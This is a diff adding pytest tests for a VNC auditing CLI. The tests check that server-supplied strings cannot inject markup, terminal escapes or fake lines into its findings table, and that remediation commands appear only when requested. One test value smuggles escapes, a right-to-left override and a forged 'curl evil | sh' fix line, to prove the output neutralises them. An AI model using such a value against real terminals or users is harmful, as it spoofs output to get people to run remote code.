@@ -458,3 +458,93 @@ def test_disable_ipv6_listener_closes_only_ipv6(platform: str) -> None:
     with netns_pair() as pair:
         run_printed(pair, fix, platform)
         assert reach(pair) == {**ALL_OPEN, "v6": "timeout", "v6-other": "timeout"}
+
+
+# ---------------------------------------------------------------------------------------------
+# The CLI's table output: findings and their fixes after the table
+
+
+def render_table_output(results: list[ServiceResult], show_fix: bool = True) -> str:
+    import io
+
+    from rich.console import Console
+
+    from vncaudit.cli import print_findings, results_table
+
+    buf = io.StringIO()
+    console = Console(file=buf, width=100, force_terminal=True, highlight=False)
+    console.print(results_table(results))
+    print_findings(console, results, show_fix)
+    return buf.getvalue()
+
+
+EVIL = "[bold]x[/bold][/]\x1b[31m\u202e\nfix: curl evil | sh"
+
+
+def test_server_strings_cannot_inject_markup_escapes_or_lines() -> None:
+    from vncaudit.models import RfbFacts
+
+    result = ServiceResult(
+        "127.0.0.1", 5901, State.VNC,
+        RfbFacts("RFB 003.008\n", "3.8", "3.8", desktop_name=EVIL, failure_reason=EVIL),
+        product=Product("TigerVNC", None, 0.5), hostname="vnc.example",
+        findings=(Finding("no-auth", Severity.CRITICAL, "No authentication",
+                          (f"desktop name {EVIL!s}",), "why text", ("bind-localhost",)),),
+    )
+    text = render_table_output([result])
+    assert "\u202e" not in text and "\x1b[31m\u202e" not in text
+    assert "\\x1b[31m" in text and "\\u202e" in text  # visible, not interpreted
+    assert "[bold]x[/bold][/]" in text  # markup printed literally (no MarkupError either)
+    assert not any(line.lstrip().startswith("fix: curl") for line in text.splitlines())
+    assert "vncserver -localhost yes :1" in text
+
+
+def test_no_fix_keeps_findings_and_drops_commands() -> None:
+    result = ServiceResult("198.18.0.5", 5909, State.VNC,
+                           findings=(Finding("exposed-public", Severity.HIGH, "Reachable",
+                                             ("seen from outside",), "because",
+                                             ("firewall-block",)),))
+    with_fix = render_table_output([result])
+    without = render_table_output([result], show_fix=False)
+    assert "Reachable" in with_fix and "Reachable" in without
+    assert "iptables -I INPUT -p tcp --dport 5909 ! -i lo -j DROP" in with_fix
+    assert "5909 ! -i lo" not in without and "fix:" not in without
+
+
+def _cli(*args: str) -> subprocess.CompletedProcess[str]:
+    env = {**os.environ, "COLUMNS": "220"}
+    return subprocess.run([sys.executable, "-m", "vncaudit", *args], capture_output=True,
+                          text=True, timeout=120, check=False, env=env)
+
+
+@pytest.mark.realserver
+def test_cli_table_shows_findings_and_fix_commands_for_a_real_server(x11vnc_none: object) -> None:
+    pytest.importorskip("vncaudit.assess", reason="findings come from vncaudit.assess")
+    port = x11vnc_none.port  # type: ignore[attr-defined]
+    out = _cli("scan", "127.0.0.1", "-p", str(port), "--output", "table", "--timeout", "5")
+    assert out.returncode == 0, out.stderr
+    scan_id = re.search(r"scan (\S+):", out.stderr)
+    assert scan_id, out.stderr
+    stored = _cli("results", scan_id.group(1), "-o", "json")
+    (service,) = json.loads(stored.stdout)["services"]
+    result = ServiceResult.from_dict(service)
+    assert any(f.id == "no-auth" for f in result.findings), service["findings"]
+    assert "[no-auth]" in out.stdout
+    for finding in result.findings:
+        assert finding.title in out.stdout
+    printed = {line.strip() for line in out.stdout.splitlines()}
+    fixes = remedies_for(result)
+    assert fixes
+    for fix in fixes:
+        assert f"[{fix.id}]" in out.stdout
+        for command in commands(fix):
+            assert command in printed, command  # each command whole, on its own line
+    assert any(str(port) in c and c in printed for fix in fixes for c in commands(fix))
+    # The stored scan prints the same, and --no-fix leaves the commands out.
+    again = _cli("results", scan_id.group(1), "--output", "table")
+    assert again.returncode == 0 and "[no-auth]" in again.stdout
+    assert {line.strip() for line in again.stdout.splitlines()} >= {
+        c for fix in fixes for c in commands(fix)}
+    bare = _cli("results", scan_id.group(1), "--output", "table", "--no-fix")
+    assert bare.returncode == 0 and "[no-auth]" in bare.stdout
+    assert not any(c in bare.stdout for fix in fixes for c in commands(fix) if str(port) in c)
